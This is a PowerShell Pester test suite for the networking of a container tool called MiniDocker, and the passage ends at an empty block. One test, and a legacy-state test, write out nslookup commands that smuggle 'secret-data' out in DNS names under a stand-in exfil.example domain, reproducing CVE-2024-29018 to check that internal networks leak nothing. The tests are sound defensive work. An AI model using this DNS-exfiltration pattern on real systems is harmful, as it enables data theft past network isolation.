# Networking, observed on the real kernel inside the suite's own network namespace (Invoke-PesterSuite.ps1
# re-execs under unshare --net): bridges, veths, nftables rules, published ports, teardown. A fake
# "upstream" network namespace behind a veth holds a TCP server and has no route back to the containers'
# subnets, so reaching it proves the masquerade.

BeforeAll {
    Import-Module $env:MINIDOCKER_MODULE -Force
    Import-Module (Join-Path $PSScriptRoot 'TestHelpers.psm1') -Force
    $script:rootfs = $env:MINIDOCKER_TEST_ROOTFS
    if ((Get-Item /proc/self/ns/net).Target -eq $env:MINIDOCKER_TEST_PARENT_NETNS) { throw 'Network.Tests.ps1 must run in the suite''s own network namespace (Invoke-PesterSuite.ps1).' }

    # The fake upstream: its own netns (held by the server process), 192.0.2.2 behind up0 = 192.0.2.1.
    $script:upstream = Start-Process -FilePath unshare -ArgumentList '--net', '/bin/busybox', 'nc', '-ll', '-p', '9000', '-e', '/bin/echo', 'upstream-ok' -PassThru -RedirectStandardOutput /dev/null
    Wait-Until { (Get-Item "/proc/$($upstream.Id)/ns/net").Target -ne (Get-Item /proc/self/ns/net).Target } | Should -BeTrue
    $script:upNs = "--net=/proc/$($upstream.Id)/ns/net"
    ip link add up0 type veth peer name up1 netns $upstream.Id
    ip addr add 192.0.2.1/24 dev up0
    ip link set up0 up
    nsenter $upNs ip addr add 192.0.2.2/24 dev up1
    nsenter $upNs ip link set up1 up
    nsenter $upNs ip link set lo up
    # Its DNS server: upstream.test is 192.0.2.2, every other name NXDOMAIN; every query it gets is logged.
    $script:upstreamLog = (New-TemporaryFile).FullName
    $script:upstreamDns = Start-Process -FilePath nsenter -ArgumentList $upNs, 'python3', (Join-Path $PSScriptRoot 'FakeUpstreamDns.py'), "--log=$upstreamLog", '192.0.2.2', 'upstream.test=192.0.2.2' -PassThru
    function script:Get-UpstreamQueries { @(Get-Content $upstreamLog -ErrorAction SilentlyContinue) }
    $script:dnsDir = Join-Path $env:MINIDOCKER_RUN_ROOT 'networks/aardvark-dns'
    function script:Get-DnsServer { $p = Join-Path $dnsDir 'aardvark.pid'; if (Test-Path $p) { $id = (Get-Content $p -Raw).Trim(); if (Test-Path "/proc/$id") { $id } } }

    function script:Get-Veths { @((ip -j link show type veth | ConvertFrom-Json) | Where-Object ifname -ne 'up0' | ForEach-Object ifname) }
    function script:Get-TableRules { @(nft -a list table inet minidocker 2>$null | Where-Object { $_ -match '# handle' -and $_ -notmatch '^\s*(table|chain)' }) }
    function script:Get-Leases { $p = Join-Path $env:MINIDOCKER_RUN_ROOT 'networks/leases.json'; if (Test-Path $p) { @(Get-Content $p -Raw | ConvertFrom-Json) } else { @() } }
    function script:Read-Port([string]$HostIp, [int]$Port) {
        $tcp = [System.Net.Sockets.TcpClient]::new()
        try {
            if (-not $tcp.ConnectAsync($HostIp, $Port).Wait(5000)) { throw "no connection to ${HostIp}:$Port" }
            $tcp.ReceiveTimeout = 5000
            [IO.StreamReader]::new($tcp.GetStream()).ReadLine()
        } finally { $tcp.Dispose() }
    }
    # A server container: answers one connection on PORT with TEXT, and says when it listens.
    function script:Start-Server([string]$Name, [hashtable]$Options, [int]$Port, [string]$Text) {
        $c = New-MiniContainer -RootFs $rootfs -Name $Name -Command '/bin/sh', '-c', "echo listening; echo $Text | nc -l -p $Port" @Options | Start-MiniContainer -PassThru
        Wait-Until { Test-Listening $Name $Port } | Should -BeTrue
        Get-MiniContainer -Name $c.Name
    }
    # Whether the container's network namespace has a TCP socket listening on PORT (state 0A in /proc/PID/net/tcp*):
    # the server's 'listening' echo comes before nc binds, and a loaded host may take long to get there.
    function script:Test-Listening([string]$Name, [int]$Port) {
        $c = Get-MiniContainer -Name $Name
        if ($c.State -ne 'Running' -or -not $c.Pid) { return $false }
        $hex = ':{0:X4}' -f $Port
        foreach ($f in "/proc/$($c.Pid)/net/tcp", "/proc/$($c.Pid)/net/tcp6") {
            foreach ($line in (Get-Content $f -ErrorAction SilentlyContinue | Select-Object -Skip 1)) {
                $cols = -split $line
                if ($cols[1].EndsWith($hex) -and $cols[3] -eq '0A') { return $true }
            }
        }
        $false
    }
}

AfterAll {
    Get-MiniContainer | Remove-MiniContainer -Force -Confirm:$false
    Get-MiniNetwork | Where-Object Name -ne 'bridge' | Remove-MiniNetwork -Force -Confirm:$false
    if ($upstreamDns) { Stop-Process -Id $upstreamDns.Id -Force -ErrorAction SilentlyContinue }
    if ($upstream) { Stop-Process -Id $upstream.Id -Force -ErrorAction SilentlyContinue }
    if ($upstreamLog) { Remove-Item $upstreamLog -ErrorAction SilentlyContinue }
    ip link del up0 2>$null
}

Describe 'Bridge networking' {
    It 'gives a bridge container eth0 with its address, a default route via the gateway, and the gateway answers' {
        $r = Invoke-TestContainer -Keep -Options @{ Network = 'bridge' } -Command '/bin/sh', '-c', 'ip addr show eth0; ip route; ping -c1 -W2 10.89.0.1 >/dev/null && echo gateway-ok'
        $net = Get-MiniNetwork bridge
        $net.Bridge | Should -Be 'md0'
        $net.Subnet | Should -Be '10.89.0.0/24'
        ($r.Output -join "`n") | Should -Match 'inet 10\.89\.0\.\d+/24'
        $r.Output | Should -Contain 'default via 10.89.0.1 dev eth0 '
        $r.Output | Should -Contain 'gateway-ok'
        (ip -j link show md0 | ConvertFrom-Json).ifname | Should -Be 'md0'
        Remove-MiniContainer -InputObject $r.Container -Force
    }

    It 'shows IPAddress and Ports on the running container, and they go when it exits' {
        $c = New-MiniContainer -RootFs $rootfs -Network bridge -Publish '18080:80' -Command sleep, 30 | Start-MiniContainer -PassThru
        $c = Get-MiniContainer -Id $c.Id
        $c.IPAddress | Should -Match '^10\.89\.0\.\d+$'
        "$($c.Ports)" | Should -Be '0.0.0.0:18080->80/tcp'
        (Get-Leases).Address | Should -Contain $c.IPAddress
        $stopped = Stop-MiniContainer -InputObject $c -Timeout 1
        $stopped.IPAddress | Should -BeNullOrEmpty
        (Get-Leases).ContainerId | Should -Not -Contain $c.Id
        Remove-MiniContainer -InputObject $c
    }

    It 'writes /etc/hosts, /etc/hostname and /etc/resolv.conf, with -AddHost and -Dns' {
        $r = Invoke-TestContainer -Keep -Options @{ Network = 'bridge'; Hostname = 'webbox'; AddHost = 'db:10.1.2.3'; Dns = '192.0.2.53' } -Command '/bin/sh', '-c', 'cat /etc/hosts /etc/hostname /etc/resolv.conf'
        $ip = (Get-Content (Join-Path $env:MINIDOCKER_ROOT "containers/$($r.Container.Id)/etc/hosts") | Select-Object -Last 2 | Select-Object -First 1) -split "`t" | Select-Object -First 1
        $r.Output | Should -Contain "127.0.0.1`tlocalhost"
        $r.Output | Should -Contain "$ip`twebbox $($r.Container.Name)"
        $ip | Should -Match '^10\.89\.0\.'
        $r.Output | Should -Contain "10.1.2.3`tdb"
        $r.Output | Should -Contain 'webbox'
        $r.Output | Should -Contain 'nameserver 192.0.2.53'
        Remove-MiniContainer -InputObject $r.Container -Force
    }

    It 'reaches a server in the fake upstream through the masquerade (the upstream has no route back)' {
        nsenter $upNs ip route | Should -Not -Match '10\.89'
        $r = Invoke-TestContainer -Options @{ Network = 'bridge' } -Command '/bin/sh', '-c', 'nc -w 3 192.0.2.2 9000'
        $r.Output | Should -Contain 'upstream-ok'
    }

    It 'publishes a port to the host''s 127.0.0.1 and its external address, held by the monitor' {
        $c = Start-Server -Name (New-TestName 'web') -Options @{ Network = 'bridge'; Publish = '18081:80' } -Port 80 -Text 'hello-from-80'
        $listeners = ss -Hltnp 'sport = :18081'
        $listeners | Should -Match 'mdhelper'
        Read-Port '127.0.0.1' 18081 | Should -Be 'hello-from-80'
        Remove-MiniContainer -InputObject $c -Force

        $c = Start-Server -Name (New-TestName 'web') -Options @{ Network = 'bridge'; Publish = '18082:81' } -Port 81 -Text 'hello-from-81'
        nsenter $upNs busybox nc -w 3 192.0.2.1 18082 | Should -Be 'hello-from-81'
        Remove-MiniContainer -InputObject $c -Force
    }

    It 'lets a container reach another one''s published port through the gateway (hairpin, masqueraded)' {
        $c = Start-Server -Name (New-TestName 'web') -Options @{ Network = 'bridge'; Publish = '18088:80' } -Port 80 -Text 'hairpin-ok'
        $r = Invoke-TestContainer -Options @{ Network = 'bridge' } -Command '/bin/sh', '-c', 'nc -w 3 10.89.0.1 18088'
        $r.Output | Should -Contain 'hairpin-ok'
        Remove-MiniContainer -InputObject $c -Force
    }

    It 'publishes only on the host address given' {
        $c = Start-Server -Name (New-TestName 'web') -Options @{ Network = 'bridge'; Publish = '127.0.0.1:18083:80' } -Port 80 -Text 'local-only'
        (nft list chain inet minidocker hostports) -join "`n" | Should -Match 'ip daddr 127\.0\.0\.1 tcp dport 18083 dnat ip to'
        Read-Port '127.0.0.1' 18083 | Should -Be 'local-only'
        Remove-MiniContainer -InputObject $c -Force
    }

    It 'connects containers on a user network by address and isolates them from other networks' {
        New-MiniNetwork appnet -Subnet 10.91.0.0/24 | Select-Object -ExpandProperty Bridge | Should -Match '^md\d+$'
        New-MiniNetwork othernet | Out-Null
        $server = Start-Server -Name (New-TestName 'srv') -Options @{ Network = 'appnet' } -Port 7000 -Text 'peer-ok'
        $server.IPAddress | Should -Be '10.91.0.2'
        $blocked = Invoke-TestContainer -Options @{ Network = 'othernet' } -Command '/bin/sh', '-c', 'nc -w 2 10.91.0.2 7000 2>/dev/null || echo blocked'
        $blocked.Output | Should -Contain 'blocked'
        $r = Invoke-TestContainer -Options @{ Network = 'appnet' } -Command '/bin/sh', '-c', 'nc -w 3 10.91.0.2 7000'
        $r.Output | Should -Contain 'peer-ok'
        (Get-MiniNetwork appnet).Containers | Should -Be @($server.Name)
        Remove-MiniContainer -InputObject $server -Force
        Remove-MiniNetwork othernet
    }

    It 'gives an -Internal network no way out, but its gateway answers' {
        New-MiniNetwork sealed -Internal | Out-Null
        $r = Invoke-TestContainer -Options @{ Network = 'sealed' } -Command '/bin/sh', '-c', 'ip route; ping -c1 -W2 $(ip route | head -1 | cut -d" " -f1 | sed "s/0\/24/1/") >/dev/null && echo gateway-ok; nc -w 2 192.0.2.2 9000 2>/dev/null || echo no-way-out'
        $r.Output | Should -Not -Match '^default'
        $r.Output | Should -Contain 'gateway-ok'
        $r.Output | Should -Contain 'no-way-out'
        Remove-MiniNetwork sealed
    }

    It 'reserves a published UDP port with a bound socket of the monitor and DNATs it' {
        $c = New-MiniContainer -RootFs $rootfs -Network bridge -Publish '15353:53/udp' -Command sleep, 30 | Start-MiniContainer -PassThru
        ss -Hlunp 'sport = :15353' | Should -Match 'mdhelper'
        (nft list chain inet minidocker hostports) -join "`n" | Should -Match "udp dport 15353 dnat ip to $([regex]::Escape((Get-MiniContainer -Id $c.Id).IPAddress)):53"
        Remove-MiniContainer -InputObject $c -Force
        ss -Hlunp 'sport = :15353' | Should -BeNullOrEmpty
    }

    It 'hands out distinct addresses to containers started at once from several threads' {
        $names = 1..4 | ForEach-Object { New-TestName 'par' }
        $names | ForEach-Object { New-MiniContainer -RootFs $rootfs -Name $_ -Network bridge -Command sleep, 30 | Out-Null }
        $names | ForEach-Object -ThrottleLimit 4 -Parallel {
            Import-Module $env:MINIDOCKER_MODULE
            Start-MiniContainer -Name $_
        }
        $ips = @(Get-MiniContainer -Network bridge -State Running | Where-Object Name -in $names | ForEach-Object IPAddress)
        $ips.Count | Should -Be 4
        @($ips | Sort-Object -Unique).Count | Should -Be 4
        Remove-MiniContainer -Name $names -Force
    }

    It 'lists only the containers of the networks Get-MiniContainer -Network names' {
        New-MiniNetwork listnet | Out-Null
        $a = New-MiniContainer -RootFs $rootfs -Network listnet -Command true
        $b = New-MiniContainer -RootFs $rootfs -Network none -Command true
        @(Get-MiniContainer -Network listnet).Id | Should -Be @($a.Id)
        @(Get-MiniContainer -Network listnet, none).Id | Should -Contain $b.Id
        @(Get-MiniContainer -Network listnet, none).Id | Should -Not -Contain $null
        @(Get-MiniContainer -Network host) | Should -BeNullOrEmpty
        Remove-MiniContainer -InputObject $a, $b
        Remove-MiniNetwork listnet
    }

    It 'shares the host''s network stack with -Network host' {
        $r = Invoke-TestContainer -Options @{ Network = 'host' } -Command '/bin/sh', '-c', 'ls /sys/class/net'
        $r.Output | Should -Contain 'up0'
        $r.Output | Should -Contain 'md0'
    }
}

Describe 'DNS on user networks' {
    It 'resolves containers by name, short id and -NetworkAlias on their network only, and forwards other names upstream' {
        $net = New-MiniNetwork dnsnet
        $net.DnsEnabled | Should -BeTrue
        New-MiniNetwork dnsother | Out-Null
        $server = Start-Server -Name (New-TestName 'db') -Options @{ Network = 'dnsnet'; NetworkAlias = 'database', 'store.internal' } -Port 7000 -Text 'by-alias'
        # netavark's file format: the gateway, then ID IPV4 IPV6(empty) NAMES UPSTREAMS.
        $lines = Get-Content (Join-Path $dnsDir 'dnsnet')
        $lines[0] | Should -Be $net.Gateway
        # The upstreams column is what the container would have used itself (here the host's servers).
        $lines[1] | Should -BeLike "$($server.Id) $($server.IPAddress)  $($server.Name),$($server.Id.Substring(0, 12)),database,store.internal *"
        Get-DnsServer | Should -Not -BeNullOrEmpty

        $r = Invoke-TestContainer -Options @{ Network = 'dnsnet'; Dns = '192.0.2.2' } -Command '/bin/sh', '-c', @"
cat /etc/resolv.conf
for n in $($server.Name) $($server.Id.Substring(0, 12)) database store.internal upstream.test; do nslookup `$n 2>&1 | tail -n +3 | sed "s/^/`$n /"; done
nc -w 3 database 7000
"@
        $r.Output | Should -Contain "nameserver $($net.Gateway)"
        @($r.Output | Where-Object { $_ -like 'nameserver*' }).Count | Should -Be 1
        # busybox nslookup: after the server's lines, "Name: N" and "Address: IP" of the answer.
        function Resolved([string]$Name) { @($r.Output | Where-Object { $_ -match "^$([regex]::Escape($Name)) Address:\s*(\S+)\s*$" } | ForEach-Object { $Matches[1] }) }
        Resolved $server.Name | Should -Be @($server.IPAddress)
        Resolved $server.Id.Substring(0, 12) | Should -Be @($server.IPAddress)
        Resolved database | Should -Be @($server.IPAddress)
        Resolved store.internal | Should -Be @($server.IPAddress)
        Resolved upstream.test | Should -Be @('192.0.2.2')   # aardvark-dns asked this container's -Dns server
        $r.Output | Should -Contain 'by-alias'

        # Another network's containers do not see the name (aardvark answers by the asker's network).
        $other = Invoke-TestContainer -Options @{ Network = 'dnsother'; Dns = '192.0.2.2' } -Command '/bin/sh', '-c', 'nslookup database >/dev/null 2>&1 && echo resolved || echo unknown'
        $other.Output | Should -Contain 'unknown'
        Remove-MiniContainer -InputObject $server -Force
        Remove-MiniNetwork dnsnet, dnsother
    }

    It 'resolves a running container by its new name after Rename-MiniContainer, and no longer by the old one' {
        New-MiniNetwork dnsrename | Out-Null
        $c = New-MiniContainer -RootFs $rootfs -Name (New-TestName 'old') -Network dnsrename -Command sleep, 60 | Start-MiniContainer -PassThru
        $c = Get-MiniContainer -Id $c.Id
        $old = $c.Name; $new = New-TestName 'new'
        Rename-MiniContainer -InputObject $c -NewName $new
        $lines = (Get-Content (Join-Path $dnsDir 'dnsrename')) -join "`n"
        $lines | Should -Match ([regex]::Escape("$new,"))
        $lines | Should -Not -Match ([regex]::Escape("$old,"))
        $r = Invoke-TestContainer -Options @{ Network = 'dnsrename'; Dns = '192.0.2.2' } -Command '/bin/sh', '-c', "nslookup $new >/dev/null 2>&1 && echo new-ok; nslookup $old >/dev/null 2>&1 || echo old-gone"
        $r.Output | Should -Contain 'new-ok'
        $r.Output | Should -Contain 'old-gone'
        Remove-MiniContainer -Id $c.Id -Force
        Remove-MiniNetwork dnsrename
    }

    It 'gives the default bridge network no DNS server and rejects -NetworkAlias there' {
        $r = Invoke-TestContainer -Options @{ Network = 'bridge'; Dns = '192.0.2.2' } -Command 'cat', '/etc/resolv.conf'
        $r.Output | Should -Be @('nameserver 192.0.2.2') -Because 'the default network keeps the plain resolv.conf'
        $err = { New-MiniContainer -RootFs $rootfs -Network bridge -NetworkAlias db -Command true } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'NetworkAliasNeedsUserNetwork,*'
        New-MiniNetwork aliasnet | Out-Null
        $err = { New-MiniContainer -RootFs $rootfs -Network aliasnet -NetworkAlias 'not a name' -Command true } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'InvalidNetworkAlias,*'
        Remove-MiniNetwork aliasnet
    }

    It 'drops the DNS entry after kill -9 of the monitor and the init, and the server stops with its last user' {
        New-MiniNetwork dnskill | Out-Null
        $c = New-MiniContainer -RootFs $rootfs -Network dnskill -NetworkAlias victim -Command sleep, 60 | Start-MiniContainer -PassThru
        $c = Get-MiniContainer -Id $c.Id
        (Get-Content (Join-Path $dnsDir 'dnskill')) -join "`n" | Should -Match ([regex]::Escape($c.Id))
        $server = Get-DnsServer
        $server | Should -Not -BeNullOrEmpty
        kill -9 $c.MonitorPid $c.Pid
        Wait-Until { -not (Test-Path "/proc/$($c.Pid)") } | Should -BeTrue
        (Get-MiniContainer -Id $c.Id).State | Should -Be 'Dead'
        # The next command took the entry out; with no running container on a DNS network the file and the server go.
        Join-Path $dnsDir 'dnskill' | Should -Not -Exist
        Wait-Until { -not (Test-Path "/proc/$server") } | Should -BeTrue
        Join-Path $dnsDir 'aardvark.pid' | Should -Not -Exist
        Remove-MiniContainer -InputObject $c
        Remove-MiniNetwork dnskill
    }
}

Describe 'Internal networks keep DNS and the host to themselves' {
    BeforeAll {
        $script:openNet = New-MiniNetwork (New-TestName 'open')
        $script:sealedNet = New-MiniNetwork (New-TestName 'sealed') -Internal
        $script:vault = Start-Server -Name (New-TestName 'vault') -Options @{ Network = $sealedNet.Name; NetworkAlias = 'vault' } -Port 7000 -Text 'vault-ok'
        # A running container on the open network too: its DNS server is up before the control asks (the first
        # container of a network starts it once running, and may ask before it listens).
        $script:openRunner = New-MiniContainer -RootFs $rootfs -Network $openNet.Name -Command sleep, 300 | Start-MiniContainer -PassThru
        # Services of the host (this suite's netns) on every address: one on a plain port, one on DNS's TCP port.
        $script:hostServices = @(7300, 53) | ForEach-Object { Start-Process -FilePath /bin/busybox -ArgumentList 'nc', '-ll', '-p', $_, '-e', '/bin/echo', "host-open-$_" -PassThru -RedirectStandardOutput /dev/null }
        Wait-Until { (ss -Hltn 'sport = :7300') -and (ss -Hltn 'sport = :53') } | Should -BeTrue
    }
    AfterAll {
        $hostServices | ForEach-Object { Stop-Process -Id $_.Id -Force -ErrorAction SilentlyContinue }
        Get-MiniContainer | Where-Object Network -in $openNet.Name, $sealedNet.Name | Remove-MiniContainer -Force -Confirm:$false
        Remove-MiniNetwork $openNet.Name, $sealedNet.Name -Force -Confirm:$false
    }

    It 'resolves its containers but sends not one query upstream (CVE-2024-29018), while a normal network forwards' {
        Clear-Content $upstreamLog
        # The attacker: no route out, so it tries to smuggle data out in a name the host's side would resolve.
        $r = Invoke-TestContainer -Options @{ Network = $sealedNet.Name; Dns = '192.0.2.2' } -Command '/bin/sh', '-c', @"
for n in secret-data.exfil.example secret-data.exfil.example. upstream.test vault $($vault.Name); do nslookup `$n 2>&1 | tail -n +3 | sed "s/^/`$n /"; done
nslookup -type=txt secret-txt.exfil.example >/dev/null 2>&1
nslookup secret-direct.exfil.example $($sealedNet.Gateway) >/dev/null 2>&1
echo done
"@
        $r.Output | Should -Contain 'done'
        function Resolved([string]$Name) { @($r.Output | Where-Object { $_ -match "^$([regex]::Escape($Name)) Address:\s*(\S+)\s*$" } | ForEach-Object { $Matches[1] }) }
        Resolved vault | Should -Be @($vault.IPAddress)
        Resolved $vault.Name | Should -Be @($vault.IPAddress)
        # The control: the same lookup from a normal network reaches the same upstream (so this test can fail).
        $open = Invoke-TestContainer -Options @{ Network = $openNet.Name; Dns = '192.0.2.2' } -Command '/bin/sh', '-c', 'nslookup control-data.exfil.example >/dev/null 2>&1; nslookup upstream.test'
        ($open.Output -join "`n") | Should -Match 'Address:\s*192\.0\.2\.2'
        Wait-Until { (Get-UpstreamQueries) -contains 'control-data.exfil.example' } | Should -BeTrue
        @(Get-UpstreamQueries | Where-Object { $_ -notin 'control-data.exfil.example', 'upstream.test' }) | Should -BeNullOrEmpty -Because 'nothing the internal container asked may reach the upstream'
        Resolved upstream.test | Should -Not -Contain '192.0.2.2' -Because 'only the upstream knows that name'
        $r.Output | Should -Contain 'secret-data.exfil.example ** server can''t find secret-data.exfil.example: NXDOMAIN'
        # The internal network's server is one that forwards nothing; the other networks' file is not where it is.
        Join-Path $dnsDir $sealedNet.Name | Should -Not -Exist
        Join-Path $env:MINIDOCKER_RUN_ROOT "networks/aardvark-dns-internal/$($sealedNet.Name)" | Should -Exist
    }

    It 'answers an -Internal container on the gateway only with DNS and ping: no other port of the host (<Port>/tcp)' -ForEach @(
        @{ Port = 7300 }, @{ Port = 53 }
    ) {
        $probe = "ping -c1 -W2 {0} >/dev/null && echo gateway-ping; nc -w 2 {0} $Port </dev/null 2>/dev/null || echo closed"
        $r = Invoke-TestContainer -Options @{ Network = $sealedNet.Name } -Command '/bin/sh', '-c', ($probe -f $sealedNet.Gateway)
        $r.Output | Should -Contain 'gateway-ping'
        $r.Output | Should -Not -Contain "host-open-$Port"
        $r.Output | Should -Contain 'closed'
        # A normal network reaches the same host service on its gateway (so this test can fail).
        $o = Invoke-TestContainer -Options @{ Network = $openNet.Name } -Command '/bin/sh', '-c', ($probe -f $openNet.Gateway)
        $o.Output | Should -Contain "host-open-$Port"
    }

    It 'corrects an internal network an older MiniDocker served from the forwarding server on the next command' {
        $net = New-MiniNetwork (New-TestName 'legacy') -Internal
        $c = New-MiniContainer -RootFs $rootfs -Name (New-TestName 'legacy') -Network $net.Name -Dns 192.0.2.2 -Command sleep, 120 | Start-MiniContainer -PassThru
        $c = Get-MiniContainer -Id $c.Id
        $internalDir = "$dnsDir-internal"
        # The state an older MiniDocker left: the network's file, with its upstream, in the forwarding server's
        # directory and that server running; no non-forwarding server; no input chain; no layout stamp.
        $sealedServer = (Get-Content (Join-Path $internalDir 'aardvark.pid') -Raw).Trim()
        kill -9 $sealedServer
        Wait-Until { -not (Test-Path "/proc/$sealedServer") } | Should -BeTrue
        Remove-Item (Join-Path $internalDir 'aardvark.pid')
        $old = (Get-Content (Join-Path $internalDir $net.Name)) | ForEach-Object { if ($_ -like "$($c.Id) *") { "$_ 192.0.2.2" } else { $_ } }
        Remove-Item (Join-Path $internalDir $net.Name)
        if (-not (Test-Path $dnsDir)) { New-Item -ItemType Directory $dnsDir | Out-Null }
        Set-Content (Join-Path $dnsDir $net.Name) ($old -join "`n") -NoNewline
        $forwarding = Get-DnsServer
        if ($forwarding) { kill -HUP $forwarding } else { & /usr/lib/podman/aardvark-dns --config $dnsDir -p 53 run 2>$null }
        nft flush chain inet minidocker input; nft delete chain inet minidocker input
        Remove-Item (Join-Path $env:MINIDOCKER_RUN_ROOT 'networks/layout')
        Wait-Until { ss -Hlun "src $($net.Gateway):53" } | Should -BeTrue
        Clear-Content $upstreamLog
        # The old state leaks (so this test can fail) ...
        Invoke-MiniContainer -InputObject $c -Command nslookup, leaked-before.exfil.example 2>$null | Out-Null
        Wait-Until { (Get-UpstreamQueries) -contains 'leaked-before.exfil.example' } | Should -BeTrue

        # ... until the next command, a mere listing, moves the network to the server that forwards nothing.
        Get-MiniContainer | Out-Null
        Join-Path $dnsDir $net.Name | Should -Not -Exist
        Get-Content (Join-Path $internalDir $net.Name) | Should -Not -Match '192\.0\.2\.2'
        Clear-Content $upstreamLog
        $out = Invoke-MiniContainer -InputObject $c -Command sh, -c, "nslookup leaked-after.exfil.example >/dev/null 2>&1; nslookup $($c.Name)" 2>$null
        ($out -join "`n") | Should -Match "Address:\s*$([regex]::Escape($c.IPAddress))"
        Invoke-TestContainer -Options @{ Network = $openNet.Name; Dns = '192.0.2.2' } -Command nslookup, control-after.exfil.example | Out-Null
        Wait-Until { (Get-UpstreamQueries) -contains 'control-after.exfil.example' } | Should -BeTrue
        Get-UpstreamQueries | Should -Not -Contain 'leaked-after.exfil.example'
        (nft list chain inet minidocker input) -join "`n" | Should -Match ([regex]::Escape("iifname `"$($net.Bridge)`" drop"))
        Remove-MiniContainer -InputObject $c -Force
        Remove-MiniNetwork $net.Name
    }

    It 'still lets the host reach an -Internal container (replies come back through the bridge)' {
        Read-Port $vault.IPAddress 7000 | Should -Be 'vault-ok'
    }
}

Describe 'Coexistence with Docker''s rules, and kernels without fib' {
    AfterEach { nft delete table ip filter 2>$null }

    It 'keeps forwarding through a Docker-like ip filter FORWARD chain with policy drop (<Case>)' -ForEach @(
        @{ Case = 'with DOCKER-USER'; Chain = 'DOCKER-USER'; Setup = 'add table ip filter; add chain ip filter FORWARD { type filter hook forward priority filter; policy drop; }; add chain ip filter DOCKER-USER; add rule ip filter FORWARD jump DOCKER-USER' }
        @{ Case = 'FORWARD only'; Chain = 'FORWARD'; Setup = 'add table ip filter; add chain ip filter FORWARD { type filter hook forward priority filter; policy drop; }' }
    ) {
        nft $Setup
        $name = New-TestName 'web'
        $c = New-MiniContainer -RootFs $rootfs -Name $name -Network bridge -Publish '18090:80' -Command '/bin/sh', '-c', 'echo listening; exec nc -ll -p 80 -e /bin/echo through-docker' | Start-MiniContainer -PassThru
        Wait-Until { Test-Listening $name 80 } | Should -BeTrue
        $ours = (nft list chain ip filter $Chain) -join "`n"
        $ours | Should -Match 'iifname "md0" accept comment "minidocker"'
        $ours | Should -Match 'oifname "md0" ct state established,related accept comment "minidocker"'
        $ours | Should -Match 'oifname "md0" ct status dnat accept comment "minidocker"'
        nsenter $upNs busybox nc -w 3 192.0.2.1 18090 | Should -Be 'through-docker'   # in: DNAT to the bridge
        $r = Invoke-TestContainer -Options @{ Network = 'bridge' } -Command '/bin/sh', '-c', 'nc -w 3 192.0.2.2 9000'
        $r.Output | Should -Contain 'upstream-ok'                                        # out: masqueraded
        # Without our accepts Docker's policy drops it (so this test fails without them) ...
        foreach ($m in (nft -a list chain ip filter $Chain | Select-String 'comment "minidocker" # handle (\d+)')) { nft delete rule ip filter $Chain handle $m.Matches[0].Groups[1].Value }
        (nsenter $upNs busybox nc -w 2 192.0.2.1 18090 2>$null) | Should -BeNullOrEmpty
        # ... and the next rebuild (any bridge container's start) puts them back.
        Invoke-TestContainer -Options @{ Network = 'bridge' } -Command 'true' | Out-Null
        nsenter $upNs busybox nc -w 3 192.0.2.1 18090 | Should -Be 'through-docker'
        Remove-MiniContainer -InputObject $c -Force
    }

    It 'publishes ports with the fallback rule when fib is unavailable (MINIDOCKER_NFT_FIB=0)' {
        $name = New-TestName 'nofib'
        $job = & (Join-Path $PSHOME pwsh) -NoProfile -NonInteractive -Command @"
`$env:MINIDOCKER_NFT_FIB = '0'
Import-Module '$env:MINIDOCKER_MODULE'
`$c = New-MiniContainer -RootFs '$rootfs' -Name $name -Network bridge -Publish 18091:80 -Command /bin/sh, -c, 'echo listening; echo no-fib-ok | nc -l -p 80' | Start-MiniContainer -PassThru
"@
        Wait-Until { Test-Listening $name 80 } | Should -BeTrue
        $rules = (nft list table inet minidocker) -join "`n"
        $rules | Should -Not -Match 'fib'
        $rules | Should -Match 'ip daddr \{[^}]*192\.0\.2\.1[^}]*\} jump hostports'
        nsenter $upNs busybox nc -w 3 192.0.2.1 18091 | Should -Be 'no-fib-ok'
        Remove-MiniContainer -Name $name -Force
        (nft list table inet minidocker) -join "`n" | Should -Match 'fib daddr type local'   # this process probes fib and has it
    }
}

Describe 'Teardown' {
    It 'leaves no veth, rule or lease after a container with a published port is removed' {
        # A first container makes the bridge and the network's own rules; what stays after it is the baseline.
        Invoke-TestContainer -Options @{ Network = 'bridge' } -Command 'true' | Out-Null
        $veths = Get-Veths; $rules = Get-TableRules
        $c = Start-Server -Name (New-TestName 'web') -Options @{ Network = 'bridge'; Publish = '18084:80' } -Port 80 -Text 'x'
        (Get-Veths).Count | Should -Be ($veths.Count + 1)
        (Get-TableRules).Count | Should -Be ($rules.Count + 2)   # the SETMARK and the DNAT rule of the port
        Remove-MiniContainer -InputObject $c -Force
        Wait-Until { (Get-Veths).Count -eq $veths.Count } | Should -BeTrue
        (Get-TableRules).Count | Should -Be $rules.Count
        (Get-Leases).ContainerId | Should -Not -Contain $c.Id
    }

    It 'cleans up after kill -9 of the monitor and the init on the next command' {
        $rules = Get-TableRules
        $c = New-MiniContainer -RootFs $rootfs -Network bridge -Publish '18085:80' -Command sleep, 60 | Start-MiniContainer -PassThru
        $c = Get-MiniContainer -Id $c.Id
        (Get-TableRules).Count | Should -Be ($rules.Count + 2)
        kill -9 $c.MonitorPid $c.Pid
        Wait-Until { -not (Test-Path "/proc/$($c.Pid)") } | Should -BeTrue
        # Nothing has run since the kill: the lease and the rules are still there; the next command repairs them.
        (Get-Leases).ContainerId | Should -Contain $c.Id
        (Get-MiniContainer -Id $c.Id).State | Should -Be 'Dead'
        (Get-Leases).ContainerId | Should -Not -Contain $c.Id
        (Get-TableRules).Count | Should -Be $rules.Count
        Wait-Until { (Get-Veths) -notcontains ('md' + $c.Id.Substring(0, 11)) } | Should -BeTrue
        Remove-MiniContainer -InputObject $c
    }

    It 'Remove-MiniNetwork refuses while a container uses the network; -Force removes it, its bridge and its container' {
        $n = New-MiniNetwork busy
        $c = New-MiniContainer -RootFs $rootfs -Network busy -Command sleep, 60 | Start-MiniContainer -PassThru
        (ip -j link show $n.Bridge | ConvertFrom-Json).ifname | Should -Be $n.Bridge
        Remove-MiniNetwork busy -ErrorVariable err -ErrorAction SilentlyContinue
        $err[0].FullyQualifiedErrorId | Should -BeLike 'NetworkInUse,*'
        Get-MiniNetwork busy | Should -Not -BeNullOrEmpty
        Remove-MiniNetwork busy -Force
        Get-MiniNetwork -Name busy -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        Get-MiniContainer -Id $c.Id -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        ip link show $n.Bridge 2>$null | Should -BeNullOrEmpty
    }
}

Describe 'Bad input leaves nothing behind' {
    BeforeEach {
